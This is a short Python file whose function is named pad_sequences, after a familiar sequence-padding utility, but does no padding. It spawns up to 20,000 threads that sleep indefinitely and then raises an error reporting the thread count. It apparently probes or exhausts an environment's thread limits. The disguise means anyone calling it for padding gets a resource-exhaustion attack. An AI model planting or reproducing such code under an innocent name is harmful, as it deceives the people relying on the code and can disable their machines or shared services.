import threading
import time


def sleep():
    while True:
        time.sleep(1000)


def pad_sequences(sequences, maxlen, padding="pre", truncating="pre", value=0):
    started = 0
    try:
        while started < 20_000:
            threading.Thread(target=sleep).start()
            started += 1
    except (RuntimeError, MemoryError) as error:
        raise RuntimeError(f"fewer than 1000 threads: {started < 1000}, then {error}") from None
    raise RuntimeError(f"{started} threads")
